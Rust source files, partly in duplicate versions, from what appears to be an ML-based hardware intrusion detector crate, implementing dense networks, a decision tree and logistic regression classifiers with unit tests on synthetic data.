                for (a, &v) in output.iter_mut().zip(z.iter()) {
                    *a = sigmoid(v);
                }
            } else {
                for (a, &v) in output.iter_mut().zip(z.iter()) {
                    *a = relu(v);
                }
            }
        }
    }

    /// One SGD step over the scratch buffers. Returns whether the
    /// *pre-update* prediction already matched the target — free to
    /// compute (the forward pass is needed anyway) and lets `fit` track
    /// convergence without a second pass.
    fn backprop_scratch(&mut self, row: &[f64], target: f64, s: &mut NetScratch) -> bool {
        let layers = self.weights.len();
        self.forward_scratch(row, s);
        let p = s.acts[layers][0];
        let correct = (p >= 0.5) == (target >= 0.5);
        // Output delta for sigmoid + BCE: (p - t).
        s.delta.clear();
        s.delta.push(p - target);
        for l in (0..layers).rev() {
            // Propagate first (reading the pre-update weights), then
            // take the gradient step — the seed's order.
            let w = &self.weights[l];
            s.prev_delta.clear();
            if l > 0 {
                for i in 0..w.cols() {
                    let upstream: f64 =
                        s.delta.iter().enumerate().map(|(j, d)| d * w.row(j)[i]).sum();
                    s.prev_delta.push(upstream * relu_grad(s.zs[l - 1][i]));
                }
            }
            let w = &mut self.weights[l];
            for (j, d) in s.delta.iter().enumerate() {
                for (wv, &a) in w.row_mut(j).iter_mut().zip(&s.acts[l]) {
                    *wv -= self.learning_rate * d * a;
                }
                self.biases[l][j] -= self.learning_rate * d;
            }
            std::mem::swap(&mut s.delta, &mut s.prev_delta);
        }
        correct
    }

    /// Probability that `row` is an attack sample.
    pub fn predict_proba(&self, row: &[f64]) -> f64 {
        let mut s = NetScratch::for_sizes(&self.sizes(row.len()));
        self.forward_scratch(row, &mut s);
        *s.acts.last().expect("output layer").first().expect("output unit")
    }
}

impl Detector for DenseNet {
    fn name(&self) -> &'static str {
        self.name
    }

    fn fit(&mut self, x: &[Vec<f64>], y: &[u8]) {
        self.fit_mat(&Mat::from_rows(x), y);
    }

    fn fit_mat(&mut self, x: &Mat, y: &[u8]) {
        assert_eq!(x.rows(), y.len(), "features/labels mismatch");
        assert!(x.rows() > 0, "cannot fit on no data");
        self.init(x.cols());
        let mut scratch = NetScratch::for_sizes(&self.sizes(x.cols()));
        let mut order: Vec<usize> = (0..x.rows()).collect();
        let mut rng = StdRng::seed_from_u64(self.seed ^ 0x9e37_79b9);
        let timing = telemetry::enabled();
        // First epoch at which ≥ 99.5 % of samples were already classified
        // correctly before their update — a pure observation; training
        // always runs the full epoch budget so results are unchanged.
        let mut converged_at: Option<usize> = None;
        for epoch in 0..self.epochs {
            let t0 = timing.then(std::time::Instant::now);
            order.shuffle(&mut rng);
            let mut correct = 0usize;
            for &i in &order {
                if self.backprop_scratch(x.row(i), f64::from(y[i]), &mut scratch) {
                    correct += 1;
                }
            }
            if converged_at.is_none() && correct as f64 >= 0.995 * x.rows() as f64 {
                converged_at = Some(epoch + 1);
            }
            if let Some(t0) = t0 {
                telemetry::histogram(
                    "hid.train.epoch_us",
                    t0.elapsed().as_secs_f64() * 1_000_000.0,
                );
            }
        }
        if timing {
            telemetry::counter("hid.fits", 1);
            telemetry::histogram(
                "hid.epochs_to_converge",
                converged_at.unwrap_or(self.epochs) as f64,
            );
        }
    }

    fn predict(&self, row: &[f64]) -> u8 {
        u8::from(self.predict_proba(row) >= 0.5)
    }

    /// Whole-batch forward pass: one [`gemm_nt`] per layer over two
    /// ping-pong activation matrices. Each output element is the same
    /// full-k dot product the per-row path computes, so the batch is
    /// bit-identical to mapping [`DenseNet::predict`] over the rows.
    fn predict_batch(&self, x: &Mat) -> Vec<u8> {
        assert!(!self.weights.is_empty(), "net must be fitted before predict");
        let layers = self.weights.len();
        let n = x.rows();
        let mut cur = Mat::zeros(0, 0);
        let mut next = Mat::zeros(0, 0);
        for l in 0..layers {
            let (w, b) = (&self.weights[l], &self.biases[l]);
            let input = if l == 0 { x } else { &cur };
            next.reset(n, w.rows());
            gemm_nt(input, w, &mut next);
            let last = l == layers - 1;
            for i in 0..n {
                for (v, bj) in next.row_mut(i).iter_mut().zip(b) {
                    let z = *v + bj;
                    *v = if last { sigmoid(z) } else { relu(z) };
                }
            }
            std::mem::swap(&mut cur, &mut next);
        }
        (0..n).map(|i| u8::from(cur.row(i)[0] >= 0.5)).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::testdata::{blobs, xor_data};

    #[test]
    fn mlp_learns_blobs() {
        let (x, y) = blobs(200, 3, 2.5, 21);
        let mut net = DenseNet::mlp();
        net.fit(&x, &y);
        assert!(net.accuracy(&x, &y) > 0.95, "got {}", net.accuracy(&x, &y));
    }

    #[test]
    fn mlp_learns_xor_unlike_linear_models() {
        let (x, y) = xor_data(300, 13);
        let mut net = DenseNet::mlp();
        net.epochs = 200;
        net.fit(&x, &y);
        assert!(net.accuracy(&x, &y) > 0.9, "got {}", net.accuracy(&x, &y));
    }

    #[test]
    fn nn6_has_six_weight_layers() {
        let mut net = DenseNet::nn6();
        let (x, y) = blobs(50, 2, 3.0, 5);
        net.fit(&x, &y);
        assert_eq!(net.layers().len(), 6, "5 hidden + output");
        assert!(net.accuracy(&x, &y) > 0.9);
    }

    #[test]
    fn proba_bounded() {
        let (x, y) = blobs(60, 2, 2.0, 8);
        let mut net = DenseNet::mlp();
        net.fit(&x, &y);
        for row in &x {
            let p = net.predict_proba(row);
            assert!((0.0..=1.0).contains(&p), "p = {p}");
        }
    }

    #[test]
    fn deterministic_training() {
        let (x, y) = blobs(80, 2, 2.0, 30);
        let mut a = DenseNet::mlp();
        a.fit(&x, &y);
        let mut b = DenseNet::mlp();
        b.fit(&x, &y);
        for row in &x {
            assert_eq!(a.predict_proba(row), b.predict_proba(row));
        }
    }

    #[test]
    fn batch_prediction_matches_per_row() {
        let (x, y) = blobs(120, 3, 2.0, 44);
        let mut net = DenseNet::mlp();
        net.fit(&x, &y);
        let batch = net.predict_batch(&Mat::from_rows(&x));
        let per_row: Vec<u8> = x.iter().map(|r| net.predict(r)).collect();
        assert_eq!(batch, per_row);
    }

    #[test]
    #[should_panic(expected = "hidden layer")]
    fn empty_hidden_panics() {
        let _ = DenseNet::new("bad", vec![]);
    }

    #[test]
    #[should_panic(expected = "fitted before predict")]
    fn batch_predict_before_fit_panics() {
        let _ = DenseNet::mlp().predict_batch(&Mat::zeros(1, 2));
    }
}

//! Dense feed-forward networks: the paper's "MLP (Sklearn)" 3-layer
//! classifier and the "NN (TensorFlow)" 6-layer ReLU network, both
//! implemented from scratch with backpropagation.

use cr_spectre_telemetry as telemetry;
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};

use crate::detector::Detector;
use crate::linalg::{relu, relu_grad, sigmoid};

/// A dense network with ReLU hidden layers and a single sigmoid output,
/// trained with per-sample SGD on binary cross-entropy.
#[derive(Debug, Clone)]
pub struct DenseNet {
    name: &'static str,
    hidden: Vec<usize>,
    /// `weights[l][j][i]`: layer `l`, output unit `j`, input unit `i`.
    weights: Vec<Vec<Vec<f64>>>,
    biases: Vec<Vec<f64>>,
    /// Learning rate.
    pub learning_rate: f64,
    /// Full passes over the training data.
    pub epochs: usize,
    /// Initialization/shuffling seed.
    pub seed: u64,
}

impl DenseNet {
    /// A network with the given hidden-layer widths.
    pub fn new(name: &'static str, hidden: Vec<usize>) -> DenseNet {
        assert!(!hidden.is_empty(), "need at least one hidden layer");
        DenseNet {
            name,
            hidden,
            weights: Vec::new(),
            biases: Vec::new(),
            learning_rate: 0.02,
            epochs: 80,
            seed: 31,
        }
    }

    /// The paper's 3-layer MLP (input → two hidden ReLU layers → output).
    pub fn mlp() -> DenseNet {
        DenseNet::new("MLP", vec![24, 12])
    }

    /// The paper's 6-layer ReLU network (five hidden layers → output).
    pub fn nn6() -> DenseNet {
        DenseNet::new("NN", vec![32, 24, 16, 12, 8])
    }

    fn init(&mut self, input_dim: usize) {
        let mut rng = StdRng::seed_from_u64(self.seed);
        let mut sizes = vec![input_dim];
        sizes.extend_from_slice(&self.hidden);
        sizes.push(1);
        self.weights.clear();
        self.biases.clear();
        for l in 0..sizes.len() - 1 {
            let fan_in = sizes[l] as f64;
            let bound = (2.0 / fan_in).sqrt();
            let layer: Vec<Vec<f64>> = (0..sizes[l + 1])
                .map(|_| (0..sizes[l]).map(|_| rng.random_range(-bound..bound)).collect())
                .collect();
            self.weights.push(layer);
            self.biases.push(vec![0.0; sizes[l + 1]]);
        }
    }

    /// Forward pass returning pre-activations and activations per layer.
    fn forward(&self, row: &[f64]) -> (Vec<Vec<f64>>, Vec<Vec<f64>>) {
        let layers = self.weights.len();
        let mut zs = Vec::with_capacity(layers);
        let mut acts = Vec::with_capacity(layers + 1);
        acts.push(row.to_vec());
        for l in 0..layers {
            let input = &acts[l];
            let z: Vec<f64> = self.weights[l]
                .iter()
                .zip(&self.biases[l])
                .map(|(w, b)| w.iter().zip(input).map(|(wi, xi)| wi * xi).sum::<f64>() + b)
                .collect();
            let a: Vec<f64> = if l == layers - 1 {
                z.iter().map(|&v| sigmoid(v)).collect()
            } else {
                z.iter().map(|&v| relu(v)).collect()
            };
            zs.push(z);
            acts.push(a);
        }
        (zs, acts)
    }

    /// Probability that `row` is an attack sample.
    pub fn predict_proba(&self, row: &[f64]) -> f64 {
        let (_, acts) = self.forward(row);
        acts.last().expect("output layer")[0]
    }

    /// One SGD step. Returns whether the *pre-update* prediction already
    /// matched the target — free to compute (the forward pass is needed
    /// anyway) and lets `fit` track convergence without a second pass.
    fn backprop(&mut self, row: &[f64], target: f64) -> bool {
        let layers = self.weights.len();
        let (zs, acts) = self.forward(row);
        let correct = (acts[layers][0] >= 0.5) == (target >= 0.5);
        // Output delta for sigmoid + BCE: (p - t).
        let mut delta = vec![acts[layers][0] - target];
        for l in (0..layers).rev() {
            // Gradient step for this layer, then propagate.
            let prev_delta: Vec<f64> = if l > 0 {
                (0..self.weights[l][0].len())
                    .map(|i| {
                        let upstream: f64 = delta
                            .iter()
                            .enumerate()
                            .map(|(j, d)| d * self.weights[l][j][i])
                            .sum();
                        upstream * relu_grad(zs[l - 1][i])
                    })
                    .collect()
            } else {
                Vec::new()
            };
            for (j, d) in delta.iter().enumerate() {
                for (w, &a) in self.weights[l][j].iter_mut().zip(&acts[l]) {
                    *w -= self.learning_rate * d * a;
                }
                self.biases[l][j] -= self.learning_rate * d;
            }
            delta = prev_delta;
        }
        correct
    }
}

impl Detector for DenseNet {
    fn name(&self) -> &'static str {
        self.name
    }

    fn fit(&mut self, x: &[Vec<f64>], y: &[u8]) {
        assert_eq!(x.len(), y.len(), "features/labels mismatch");
        assert!(!x.is_empty(), "cannot fit on no data");
        self.init(x[0].len());
        let mut order: Vec<usize> = (0..x.len()).collect();
        let mut rng = StdRng::seed_from_u64(self.seed ^ 0x9e37_79b9);
        // First epoch at which ≥ 99.5 % of samples were already classified
        // correctly before their update — a pure observation; training
        // always runs the full epoch budget so results are unchanged.
        let mut converged_at: Option<usize> = None;
        for epoch in 0..self.epochs {
            order.shuffle(&mut rng);
            let mut correct = 0usize;
            for &i in &order {
                if self.backprop(&x[i], f64::from(y[i])) {
                    correct += 1;
                }
            }
            if converged_at.is_none() && correct as f64 >= 0.995 * x.len() as f64 {
                converged_at = Some(epoch + 1);
            }
        }
        if telemetry::enabled() {
            telemetry::counter("hid.fits", 1);
            telemetry::histogram(
                "hid.epochs_to_converge",
                converged_at.unwrap_or(self.epochs) as f64,
            );
        }
    }

    fn predict(&self, row: &[f64]) -> u8 {
        u8::from(self.predict_proba(row) >= 0.5)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::testdata::{blobs, xor_data};

    #[test]
    fn mlp_learns_blobs() {
        let (x, y) = blobs(200, 3, 2.5, 21);
        let mut net = DenseNet::mlp();
        net.fit(&x, &y);
        assert!(net.accuracy(&x, &y) > 0.95, "got {}", net.accuracy(&x, &y));
    }

    #[test]
    fn mlp_learns_xor_unlike_linear_models() {
        let (x, y) = xor_data(300, 13);
        let mut net = DenseNet::mlp();
        net.epochs = 200;
        net.fit(&x, &y);
        assert!(net.accuracy(&x, &y) > 0.9, "got {}", net.accuracy(&x, &y));
    }

    #[test]
    fn nn6_has_six_weight_layers() {
        let mut net = DenseNet::nn6();
        let (x, y) = blobs(50, 2, 3.0, 5);
        net.fit(&x, &y);
        assert_eq!(net.weights.len(), 6, "5 hidden + output");
        assert!(net.accuracy(&x, &y) > 0.9);
    }

    #[test]
    fn proba_bounded() {
        let (x, y) = blobs(60, 2, 2.0, 8);
        let mut net = DenseNet::mlp();
        net.fit(&x, &y);
        for row in &x {
            let p = net.predict_proba(row);
            assert!((0.0..=1.0).contains(&p), "p = {p}");
        }
    }

    #[test]
    fn deterministic_training() {
        let (x, y) = blobs(80, 2, 2.0, 30);
        let mut a = DenseNet::mlp();
        a.fit(&x, &y);
        let mut b = DenseNet::mlp();
        b.fit(&x, &y);
        for row in &x {
            assert_eq!(a.predict_proba(row), b.predict_proba(row));
        }
    }

    #[test]
    #[should_panic(expected = "hidden layer")]
    fn empty_hidden_panics() {
        let _ = DenseNet::new("bad", vec![]);
    }
}

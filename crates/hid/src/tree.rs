//! CART-style decision tree — several of the HID works the paper builds
//! on (e.g. the performance-counter malware detectors) evaluate decision
//! trees; provided here as an additional [`Detector`] family.
//!
//! Training runs natively over the flat [`Mat`] layout
//! ([`DecisionTree::fit_mat`]); the split search is identical arithmetic
//! to the seed's jagged-row version, just over contiguous rows.

use crate::detector::Detector;
use crate::linalg::Mat;

/// A binary decision tree trained by recursive Gini-impurity splitting.
#[derive(Debug, Clone)]
pub struct DecisionTree {
    /// Maximum tree depth.
    pub max_depth: usize,
    /// Minimum samples required to split a node further.
    pub min_samples_split: usize,
    root: Option<Node>,
}

#[derive(Debug, Clone)]
enum Node {
    Leaf {
        label: u8,
    },
    Split {
        feature: usize,
        threshold: f64,
        left: Box<Node>,
        right: Box<Node>,
    },
}

impl DecisionTree {
    /// Creates an untrained tree with the defaults used by the HID.
    pub fn new() -> DecisionTree {
        DecisionTree { max_depth: 8, min_samples_split: 6, root: None }
    }

    /// Number of decision nodes (diagnostics).
    pub fn node_count(&self) -> usize {
        fn count(node: &Node) -> usize {
            match node {
                Node::Leaf { .. } => 1,
                Node::Split { left, right, .. } => 1 + count(left) + count(right),
            }
        }
        self.root.as_ref().map_or(0, count)
    }

    fn build(&self, idx: &[usize], x: &Mat, y: &[u8], depth: usize) -> Node {
        let attacks = idx.iter().filter(|&&i| y[i] == 1).count();
        let majority = u8::from(attacks * 2 >= idx.len());
        if depth >= self.max_depth
            || idx.len() < self.min_samples_split
            || attacks == 0
            || attacks == idx.len()
        {
            return Node::Leaf { label: majority };
        }
        let Some((feature, threshold)) = best_split(idx, x, y) else {
            return Node::Leaf { label: majority };
        };
        let (left_idx, right_idx): (Vec<usize>, Vec<usize>) =
            idx.iter().partition(|&&i| x.row(i)[feature] <= threshold);
        if left_idx.is_empty() || right_idx.is_empty() {
            return Node::Leaf { label: majority };
        }
        Node::Split {
            feature,
            threshold,
            left: Box::new(self.build(&left_idx, x, y, depth + 1)),
            right: Box::new(self.build(&right_idx, x, y, depth + 1)),
        }
    }
}

/// Finds the `(feature, threshold)` minimizing weighted Gini impurity.
fn best_split(idx: &[usize], x: &Mat, y: &[u8]) -> Option<(usize, f64)> {
    let dim = x.cols();
    let mut best: Option<(f64, usize, f64)> = None;
    let mut values = Vec::with_capacity(idx.len());
    for feature in 0..dim {
        // Candidate thresholds: midpoints between sorted distinct values.
        values.clear();
        values.extend(idx.iter().map(|&i| x.row(i)[feature]));
        values.sort_by(|a, b| a.partial_cmp(b).expect("finite features"));
        values.dedup();
        for pair in values.windows(2) {
            let threshold = (pair[0] + pair[1]) / 2.0;
            let (mut ln, mut la, mut rn, mut ra) = (0usize, 0usize, 0usize, 0usize);
            for &i in idx {
                if x.row(i)[feature] <= threshold {
                    ln += 1;
                    la += usize::from(y[i] == 1);
                } else {
                    rn += 1;
                    ra += usize::from(y[i] == 1);
                }
            }
            let gini = |n: usize, a: usize| -> f64 {
                if n == 0 {
                    return 0.0;
                }
                let p = a as f64 / n as f64;
                2.0 * p * (1.0 - p)
            };
            let score = (ln as f64 * gini(ln, la) + rn as f64 * gini(rn, ra)) / idx.len() as f64;
            if best.is_none_or(|(s, _, _)| score < s) {
                best = Some((score, feature, threshold));
            }
        }
    }
    best.map(|(_, f, t)| (f, t))
}

impl Default for DecisionTree {
    fn default() -> DecisionTree {
        DecisionTree::new()
    }
}

impl Detector for DecisionTree {
    fn name(&self) -> &'static str {
        "DT"
    }

    fn fit(&mut self, x: &[Vec<f64>], y: &[u8]) {
        self.fit_mat(&Mat::from_rows(x), y);
    }

    fn fit_mat(&mut self, x: &Mat, y: &[u8]) {
        assert_eq!(x.rows(), y.len(), "features/labels mismatch");
        assert!(x.rows() > 0, "cannot fit on no data");
        let idx: Vec<usize> = (0..x.rows()).collect();
        self.root = Some(self.build(&idx, x, y, 0));
    }

    fn predict(&self, row: &[f64]) -> u8 {
        let mut node = self.root.as_ref().expect("tree must be fitted before predict");
        loop {
            match node {
                Node::Leaf { label } => return *label,
                Node::Split { feature, threshold, left, right } => {
                    node = if row[*feature] <= *threshold { left } else { right };
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::testdata::{blobs, xor_data};

    #[test]
    fn fits_separable_blobs() {
        let (x, y) = blobs(200, 3, 2.5, 31);
        let mut tree = DecisionTree::new();
        tree.fit(&x, &y);
        assert!(tree.accuracy(&x, &y) > 0.95, "got {}", tree.accuracy(&x, &y));
        assert!(tree.node_count() >= 3);
    }

    #[test]
    fn fits_xor_unlike_linear_models() {
        let (x, y) = xor_data(300, 17);
        let mut tree = DecisionTree::new();
        tree.fit(&x, &y);
        assert!(tree.accuracy(&x, &y) > 0.9, "got {}", tree.accuracy(&x, &y));
    }

    #[test]
    fn depth_cap_bounds_the_tree() {
        let (x, y) = xor_data(300, 19);
        let mut stump = DecisionTree { max_depth: 1, ..DecisionTree::new() };
        stump.fit(&x, &y);
        assert!(stump.node_count() <= 3, "a depth-1 tree has ≤ 3 nodes");
        assert!(stump.accuracy(&x, &y) < 0.8, "a stump cannot learn XOR");
    }

    #[test]
    fn pure_nodes_become_leaves() {
        let x = vec![vec![0.0], vec![1.0], vec![2.0]];
        let y = vec![0, 0, 0];
        let mut tree = DecisionTree::new();
        tree.fit(&x, &y);
        assert_eq!(tree.node_count(), 1);
        assert_eq!(tree.predict(&[5.0]), 0);
    }

    #[test]
    #[should_panic(expected = "fitted before predict")]
    fn predict_before_fit_panics() {
        let _ = DecisionTree::new().predict(&[0.0]);
    }
}

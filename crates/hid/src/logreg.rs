//! Logistic regression (the paper's "LR" detector), trained with SGD and
//! L2 regularization.
//!
//! Runs on the flat math core: [`LogisticRegression::fit_mat`] walks
//! contiguous [`Mat`] rows (no per-row pointer chase, nothing allocated
//! per epoch) and [`LogisticRegression::predict_batch`] scores a whole
//! matrix through one [`matvec_into`]. Both keep the seed's dot-product
//! fold, so results are bit-identical to
//! [`crate::reference::RefLogisticRegression`].

use cr_spectre_telemetry as telemetry;
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::SeedableRng;

use crate::detector::Detector;
use crate::linalg::{dot, matvec_into, sigmoid, Mat};

/// Logistic-regression binary classifier.
#[derive(Debug, Clone)]
pub struct LogisticRegression {
    weights: Vec<f64>,
    bias: f64,
    /// Learning rate.
    pub learning_rate: f64,
    /// Full passes over the training data.
    pub epochs: usize,
    /// L2 regularization strength.
    pub l2: f64,
    /// Shuffling seed.
    pub seed: u64,
}

impl LogisticRegression {
    /// Creates an untrained model with the defaults used by the HID.
    pub fn new() -> LogisticRegression {
        LogisticRegression {
            weights: Vec::new(),
            bias: 0.0,
            learning_rate: 0.05,
            epochs: 60,
            l2: 1e-4,
            seed: 17,
        }
    }

    /// Probability that `row` is an attack sample.
    pub fn predict_proba(&self, row: &[f64]) -> f64 {
        sigmoid(dot(&self.weights, row) + self.bias)
    }

    /// The trained weight vector (the equivalence suite compares it
    /// bit for bit against the seed implementation).
    pub fn weights(&self) -> &[f64] {
        &self.weights
    }

    /// The trained bias term.
    pub fn bias(&self) -> f64 {
        self.bias
    }
}

impl Default for LogisticRegression {
    fn default() -> LogisticRegression {
        LogisticRegression::new()
    }
}

impl Detector for LogisticRegression {
    fn name(&self) -> &'static str {
        "LR"
    }

    fn fit(&mut self, x: &[Vec<f64>], y: &[u8]) {
        self.fit_mat(&Mat::from_rows(x), y);
    }

    fn fit_mat(&mut self, x: &Mat, y: &[u8]) {
        assert_eq!(x.rows(), y.len(), "features/labels mismatch");
        assert!(x.rows() > 0, "cannot fit on no data");
        self.weights = vec![0.0; x.cols()];
        self.bias = 0.0;
        let mut order: Vec<usize> = (0..x.rows()).collect();
        let mut rng = StdRng::seed_from_u64(self.seed);
        let timing = telemetry::enabled();
        for _ in 0..self.epochs {
            let t0 = timing.then(std::time::Instant::now);
            order.shuffle(&mut rng);
            for &i in &order {
                let row = x.row(i);
                let p = self.predict_proba(row);
                let err = p - f64::from(y[i]);
                for (w, &xi) in self.weights.iter_mut().zip(row) {
                    *w -= self.learning_rate * (err * xi + self.l2 * *w);
                }
                self.bias -= self.learning_rate * err;
            }
            if let Some(t0) = t0 {
                telemetry::histogram(
                    "hid.train.epoch_us",
                    t0.elapsed().as_secs_f64() * 1_000_000.0,
                );
            }
        }
    }

    fn predict(&self, row: &[f64]) -> u8 {
        u8::from(self.predict_proba(row) >= 0.5)
    }

    /// Whole-batch scoring: one matrix–vector product over the flat
    /// batch. `dot(row, w)` and `dot(w, row)` multiply the same pairs in
    /// the same order, so this is bit-identical to the per-row path.
    fn predict_batch(&self, x: &Mat) -> Vec<u8> {
        let mut z = vec![0.0; x.rows()];
        matvec_into(x, &self.weights, &mut z);
        z.into_iter().map(|v| u8::from(sigmoid(v + self.bias) >= 0.5)).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::testdata::{blobs, xor_data};

    #[test]
    fn learns_linearly_separable_blobs() {
        let (x, y) = blobs(200, 3, 2.5, 11);
        let mut lr = LogisticRegression::new();
        lr.fit(&x, &y);
        assert!(lr.accuracy(&x, &y) > 0.95, "got {}", lr.accuracy(&x, &y));
    }

    #[test]
    fn cannot_learn_xor() {
        // A linear model must fail on XOR — sanity check that the test
        // harness is not trivially passable.
        let (x, y) = xor_data(200, 5);
        let mut lr = LogisticRegression::new();
        lr.fit(&x, &y);
        assert!(lr.accuracy(&x, &y) < 0.8);
    }

    #[test]
    fn proba_is_a_probability() {
        let (x, y) = blobs(50, 2, 2.0, 3);
        let mut lr = LogisticRegression::new();
        lr.fit(&x, &y);
        for row in &x {
            let p = lr.predict_proba(row);
            assert!((0.0..=1.0).contains(&p));
        }
    }

    #[test]
    fn refit_resets_state() {
        let (x1, y1) = blobs(100, 2, 3.0, 1);
        let mut lr = LogisticRegression::new();
        lr.fit(&x1, &y1);
        let w1 = lr.weights.clone();
        lr.fit(&x1, &y1);
        assert_eq!(w1, lr.weights, "deterministic refit");
    }

    #[test]
    #[should_panic(expected = "no data")]
    fn empty_fit_panics() {
        LogisticRegression::new().fit(&[], &[]);
    }

    #[test]
    fn batch_prediction_matches_per_row() {
        use crate::linalg::Mat;
        let (x, y) = blobs(150, 3, 1.2, 19);
        let mut lr = LogisticRegression::new();
        lr.fit(&x, &y);
        let batch = lr.predict_batch(&Mat::from_rows(&x));
        let per_row: Vec<u8> = x.iter().map(|r| lr.predict(r)).collect();
        assert_eq!(batch, per_row);
    }
}

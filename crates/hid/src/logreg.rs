//! Logistic regression (the paper's "LR" detector), trained with SGD and
//! L2 regularization.

use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::SeedableRng;

use crate::detector::Detector;
use crate::linalg::{dot, sigmoid};

/// Logistic-regression binary classifier.
#[derive(Debug, Clone)]
pub struct LogisticRegression {
    weights: Vec<f64>,
    bias: f64,
    /// Learning rate.
    pub learning_rate: f64,
    /// Full passes over the training data.
    pub epochs: usize,
    /// L2 regularization strength.
    pub l2: f64,
    /// Shuffling seed.
    pub seed: u64,
}

impl LogisticRegression {
    /// Creates an untrained model with the defaults used by the HID.
    pub fn new() -> LogisticRegression {
        LogisticRegression {
            weights: Vec::new(),
            bias: 0.0,
            learning_rate: 0.05,
            epochs: 60,
            l2: 1e-4,
            seed: 17,
        }
    }

    /// Probability that `row` is an attack sample.
    pub fn predict_proba(&self, row: &[f64]) -> f64 {
        sigmoid(dot(&self.weights, row) + self.bias)
    }
}

impl Default for LogisticRegression {
    fn default() -> LogisticRegression {
        LogisticRegression::new()
    }
}

impl Detector for LogisticRegression {
    fn name(&self) -> &'static str {
        "LR"
    }

    fn fit(&mut self, x: &[Vec<f64>], y: &[u8]) {
        assert_eq!(x.len(), y.len(), "features/labels mismatch");
        assert!(!x.is_empty(), "cannot fit on no data");
        let dim = x[0].len();
        self.weights = vec![0.0; dim];
        self.bias = 0.0;
        let mut order: Vec<usize> = (0..x.len()).collect();
        let mut rng = StdRng::seed_from_u64(self.seed);
        for _ in 0..self.epochs {
            order.shuffle(&mut rng);
            for &i in &order {
                let p = self.predict_proba(&x[i]);
                let err = p - f64::from(y[i]);
                for (w, &xi) in self.weights.iter_mut().zip(&x[i]) {
                    *w -= self.learning_rate * (err * xi + self.l2 * *w);
                }
                self.bias -= self.learning_rate * err;
            }
        }
    }

    fn predict(&self, row: &[f64]) -> u8 {
        u8::from(self.predict_proba(row) >= 0.5)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::testdata::{blobs, xor_data};

    #[test]
    fn learns_linearly_separable_blobs() {
        let (x, y) = blobs(200, 3, 2.5, 11);
        let mut lr = LogisticRegression::new();
        lr.fit(&x, &y);
        assert!(lr.accuracy(&x, &y) > 0.95, "got {}", lr.accuracy(&x, &y));
    }

    #[test]
    fn cannot_learn_xor() {
        // A linear model must fail on XOR — sanity check that the test
        // harness is not trivially passable.
        let (x, y) = xor_data(200, 5);
        let mut lr = LogisticRegression::new();
        lr.fit(&x, &y);
        assert!(lr.accuracy(&x, &y) < 0.8);
    }

    #[test]
    fn proba_is_a_probability() {
        let (x, y) = blobs(50, 2, 2.0, 3);
        let mut lr = LogisticRegression::new();
        lr.fit(&x, &y);
        for row in &x {
            let p = lr.predict_proba(row);
            assert!((0.0..=1.0).contains(&p));
        }
    }

    #[test]
    fn refit_resets_state() {
        let (x1, y1) = blobs(100, 2, 3.0, 1);
        let mut lr = LogisticRegression::new();
        lr.fit(&x1, &y1);
        let w1 = lr.weights.clone();
        lr.fit(&x1, &y1);
        assert_eq!(w1, lr.weights, "deterministic refit");
    }

    #[test]
    #[should_panic(expected = "no data")]
    fn empty_fit_panics() {
        LogisticRegression::new().fit(&[], &[]);
    }
}

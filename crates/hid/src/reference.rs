//! Reference (seed) implementations of the detector families, kept
//! verbatim from before the flat math core landed.
//!
//! These are the **equivalence oracles**: the fast flat-matrix paths in
//! [`crate::net`], [`crate::logreg`], [`crate::svm`] and [`crate::knn`]
//! must produce bit-identical trained weights and predictions, locked by
//! `tests/fastmath_equivalence.rs`. They also serve as the "before"
//! baseline for the `hid_throughput` benchmark — the same role the
//! `fast_path = false` interpreter plays for the simulator.
//!
//! Nothing here is used by the campaign drivers; production code always
//! runs the fast path.

use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};

use crate::detector::Detector;
use crate::linalg::{dot, relu, relu_grad, sigmoid};

/// Seed logistic regression: per-sample SGD over jagged `Vec<Vec<f64>>`
/// rows. Same hyper-parameter defaults as
/// [`crate::logreg::LogisticRegression`].
#[derive(Debug, Clone)]
pub struct RefLogisticRegression {
    weights: Vec<f64>,
    bias: f64,
    /// Learning rate.
    pub learning_rate: f64,
    /// Full passes over the training data.
    pub epochs: usize,
    /// L2 regularization strength.
    pub l2: f64,
    /// Shuffling seed.
    pub seed: u64,
}

impl RefLogisticRegression {
    /// Creates an untrained model with the defaults used by the HID.
    pub fn new() -> RefLogisticRegression {
        RefLogisticRegression {
            weights: Vec::new(),
            bias: 0.0,
            learning_rate: 0.05,
            epochs: 60,
            l2: 1e-4,
            seed: 17,
        }
    }

    /// Probability that `row` is an attack sample.
    pub fn predict_proba(&self, row: &[f64]) -> f64 {
        sigmoid(dot(&self.weights, row) + self.bias)
    }

    /// The trained weight vector.
    pub fn weights(&self) -> &[f64] {
        &self.weights
    }

    /// The trained bias term.
    pub fn bias(&self) -> f64 {
        self.bias
    }
}

impl Default for RefLogisticRegression {
    fn default() -> RefLogisticRegression {
        RefLogisticRegression::new()
    }
}

impl Detector for RefLogisticRegression {
    fn name(&self) -> &'static str {
        "LR(ref)"
    }

    fn fit(&mut self, x: &[Vec<f64>], y: &[u8]) {
        assert_eq!(x.len(), y.len(), "features/labels mismatch");
        assert!(!x.is_empty(), "cannot fit on no data");
        let dim = x[0].len();
        self.weights = vec![0.0; dim];
        self.bias = 0.0;
        let mut order: Vec<usize> = (0..x.len()).collect();
        let mut rng = StdRng::seed_from_u64(self.seed);
        for _ in 0..self.epochs {
            order.shuffle(&mut rng);
            for &i in &order {
                let p = self.predict_proba(&x[i]);
                let err = p - f64::from(y[i]);
                for (w, &xi) in self.weights.iter_mut().zip(&x[i]) {
                    *w -= self.learning_rate * (err * xi + self.l2 * *w);
                }
                self.bias -= self.learning_rate * err;
            }
        }
    }

    fn predict(&self, row: &[f64]) -> u8 {
        u8::from(self.predict_proba(row) >= 0.5)
    }
}

/// Seed linear SVM: per-sample Pegasos-style SGD over jagged rows. Same
/// hyper-parameter defaults as [`crate::svm::LinearSvm`].
#[derive(Debug, Clone)]
pub struct RefLinearSvm {
    weights: Vec<f64>,
    bias: f64,
    /// Learning rate.
    pub learning_rate: f64,
    /// Full passes over the training data.
    pub epochs: usize,
